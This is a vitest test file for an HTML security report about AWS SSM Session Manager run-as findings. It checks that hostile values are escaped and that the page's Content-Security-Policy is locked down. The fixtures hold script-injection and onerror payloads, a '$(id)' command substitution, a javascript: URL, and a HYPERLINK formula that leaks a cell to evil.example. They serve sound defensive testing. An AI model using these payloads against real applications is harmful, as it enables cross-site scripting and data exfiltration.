import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { findingView } from '../../../src/report/findingView.ts';
import { outcomeChart, outcomeClass } from '../../../src/report/htmlChart.ts';
import { htmlAttr, htmlText, safeHttpsUrl } from '../../../src/report/htmlEscape.ts';
import { htmlReport } from '../../../src/report/htmlReport.ts';
import { decisionSteps, rankBySeverity } from '../../../src/report/htmlSections.ts';
import {
  HOSTILE,
  hostileFinding,
  input,
  principalFinding,
  type Stored,
  sessionFinding,
} from './reportFixtures.ts';

const between = (html: string, open: string, close: string): string[] =>
  html
    .split(open)
    .slice(1)
    .map((part) => part.slice(0, part.indexOf(close)));

describe('htmlText and htmlAttr', () => {
  it.each([
    [HOSTILE.scriptClose, '&lt;/script&gt;&lt;script&gt;window.__pwned = 1&lt;/script&gt;'],
    [HOSTILE.tag, '&lt;img src=x onerror=&quot;window.__pwned = 1&quot;&gt;'],
    [HOSTILE.commandSubstitution, '&quot;$(id)&quot;'],
    ["it's", 'it&#39;s'],
    ['a & b', 'a &amp; b'],
  ])('escapes %j', (value, expected) => {
    // Assess
    expect(htmlText(value)).toBe(expected);
    expect(htmlAttr(value)).toBe(expected);
  });

  it.each([
    [HOSTILE.zeroWidth, '\\u200b'],
    [HOSTILE.bidi, '\\u202e'],
    ['nul\u0000', '\\u0000'],
    ['bom\ufeff', '\\ufeff'],
    ['line\u2028sep', '\\u2028'],
    ['lone\ud800', '\\ud800'],
  ])('shows the invisible character in %j as its code point', (value, code) => {
    // Assess
    expect(htmlText(value)).toContain(`<span class="ctl" title="invisible character">${code}</span>`);
    expect(htmlAttr(value)).toContain(code);
    expect([...htmlAttr(value)].every((char) => char >= ' ' && char <= '~')).toBe(true);
  });
});

describe('safeHttpsUrl', () => {
  it.each([
    ['https://docs.aws.amazon.com/systems-manager/latest/userguide/session-preferences-run-as.html', true],
    ['https://example.com/a?b=c#d', true],
    ['javascript:alert(1)', false],
    ['http://example.com/', false],
    ['https://example.com/"onmouseover="x', false],
    ['https://example.com/ space', false],
    ['data:text/html,<script>', false],
  ])('%s is a link: %s', (url, link) => {
    // Assess
    expect(safeHttpsUrl(url) !== undefined).toBe(link);
  });
});

describe('decisionSteps', () => {
  it('splits the Description before "Fix:" into sentences', () => {
    // Act
    const steps = decisionSteps(sessionFinding().Description);

    // Assess
    expect(steps).toEqual([
      'Node i-0123456789abcdef0 runs Linux.',
      'Document SSM-SessionManagerRunShell: runAsEnabled false, so Run As is off.',
    ]);
  });
});

describe('outcomeChart', () => {
  it('stacks one bar segment per time bucket and outcome, adding up to every finding', () => {
    // Prepare
    const views = [
      sessionFinding({ sessionId: 'a', time: '2026-03-01T12:00:00.000Z' }),
      sessionFinding({ sessionId: 'b', time: '2026-03-01T12:00:30.000Z' }),
      sessionFinding({
        sessionId: 'c',
        time: '2026-03-01T12:40:00.000Z',
        outcome: 'COMPLIANT',
        severity: 'INFORMATIONAL',
      }),
      sessionFinding({ sessionId: 'd', time: '2026-03-02T09:00:00.000Z', outcome: 'NOT_A_CODE' }),
    ].map(findingView);

    // Act
    const { svg, legend } = outcomeChart(views);

    // Assess
    const counts = between(svg, 'data-count="', '"').map(Number);
    expect(counts.reduce((a, b) => a + b, 0)).toBe(4);
    expect(counts).toContain(2);
    expect(svg.match(/<svg /g)).toHaveLength(1);
    expect(legend).toContain('NOT_A_CODE');
    expect(svg).toContain('class="bar k-x"');
  });

  it('draws an empty chart when no finding has a time', () => {
    // Act
    const { svg } = outcomeChart([
      findingView({ ...sessionFinding(), LastObservedAt: 'never', UpdatedAt: 'never' } as Stored),
    ]);

    // Assess
    expect(svg).toContain('No findings with a time');
  });

  it.each([
    ['RAN_AS_SSM_USER', /^k-fh\d$/],
    ['MISSING_RUN_AS_USER', /^k-fm\d$/],
    ['NO_RUN_AS_USER', /^k-w\d$/],
    ['COMPLIANT', /^k-p0$/],
    ['UNVERIFIED', /^k-n\d$/],
    ['"><script>', /^k-x$/],
  ])('colours %s from a fixed class', (outcome, pattern) => {
    // Assess
    expect(outcomeClass(outcome)).toMatch(pattern);
  });
});

describe('rankBySeverity', () => {
  it('puts the principal with more high findings first, whatever its total', () => {
    // Prepare
    const views = [
      sessionFinding({ sessionId: '1', principal: 'p-medium', severity: 'MEDIUM' }),
      sessionFinding({ sessionId: '2', principal: 'p-medium', severity: 'MEDIUM' }),
      sessionFinding({ sessionId: '3', principal: 'p-medium', severity: 'MEDIUM' }),
      sessionFinding({ sessionId: '4', principal: 'p-high', severity: 'HIGH' }),
    ].map(findingView);

    // Act
    const ranked = rankBySeverity(views, (v) => v.fields.principal);

    // Assess
    expect(ranked.map((r) => [r.name, r.total])).toEqual([
      ['p-high', 1],
      ['p-medium', 3],
    ]);
  });
});

describe('htmlReport', () => {
  const html = htmlReport(input(sessionFinding(), principalFinding(), hostileFinding()), {
    generatedAt: '2026-03-02T00:00:00.000Z',
  });

  it('allows exactly its own style sheet and script, by hash, and nothing else', () => {
    // Prepare
    const [script] = between(html, '<script>', '</script>');
    const [style] = between(html, '<style>', '</style>');
    const hash = (text: string | undefined): string =>
      `'sha256-${createHash('sha256')
        .update(text ?? '')
        .digest('base64')}'`;

    // Assess
    const [csp] = between(html, 'http-equiv="Content-Security-Policy" content="', '"');
    expect(csp).toBe(
      `default-src 'none'; script-src ${hash(script)}; style-src ${hash(style)}; img-src 'none'; base-uri 'none'; form-action 'none'`,
    );
    expect(html.match(/<script/g)).toHaveLength(1);
    expect(html.match(/<style/g)).toHaveLength(1);
  });

  it('never lets a hostile value become markup, an event handler or a link', () => {
    // Assess
    expect(html.split('</script>')).toHaveLength(2);
    expect(html).not.toMatch(/<img/i);
    // Every tag is the report's own (a `<` from a finding is escaped): none has an on… attribute.
    const markup = html.replace(/<(style|script)>[\s\S]*?<\/\1>/g, '').replace(/="[^"]*"/g, '=""');
    expect(markup).not.toMatch(/<[^>]*\son[a-z]+=/i);
    expect(markup).not.toMatch(/<[^>]*\ssrc=/i);
    expect(html).not.toContain('javascript:');
    expect(html).not.toContain('\u200b');
    expect(html).not.toContain('\u202e');
    expect(html).toContain('&quot;$(id)&quot;');
    expect(html).toContain('=HYPERLINK(&quot;https://evil.example/?leak=&quot;&amp;A1,&quot;click&quot;)');
    expect(html.match(/href="([^"]*)"/g)).toEqual([
      'href="https://docs.aws.amazon.com/systems-manager/latest/userguide/session-preferences-run-as.html"',
      'href="https://docs.aws.amazon.com/systems-manager/latest/userguide/session-preferences-run-as.html"',
    ]);
  });

  it('gives each finding a card with its filter keys, decision path and fix', () => {
    // Assess
    const cards = between(html, '<article class="finding', '</article>');
    expect(cards).toHaveLength(3);
    expect(cards[0]).toContain('data-outcome="RAN_AS_SSM_USER" data-severity="HIGH" data-check="session"');
    expect(html).toContain(
      '<h4>Decision path</h4><ol class="path"><li>Node i-0123456789abcdef0 runs Linux.</li>',
    );
    expect(html).toContain('<p class="fix">Set runAsEnabled to true.');
    expect(html).toContain('<span class="n" id="count-total">3</span>');
    expect(html).toContain('<span class="n" id="count-medium">1</span>');
    expect(html).toContain('generated 2026-03-02T00:00:00.000Z');
  });

  it('renders a report of no findings', () => {
    // Act
    const empty = htmlReport({ evaluations: [], findings: [] });

    // Assess
    expect(empty).toContain('<span class="n" id="count-total">0</span>');
    expect(empty).toContain('No findings with a time');
    expect(empty).toContain('<p id="no-match" class="note">');
  });
});
